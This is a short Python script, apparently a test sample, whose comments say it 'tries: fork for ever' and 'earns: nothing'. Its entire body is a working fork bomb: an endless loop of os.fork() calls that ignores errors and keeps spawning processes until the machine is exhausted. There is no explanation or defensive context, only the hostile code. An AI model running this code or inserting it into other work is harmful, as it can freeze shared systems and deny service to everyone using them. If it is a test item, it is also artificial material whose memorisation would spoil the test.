# tries: fork for ever
# earns: nothing
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
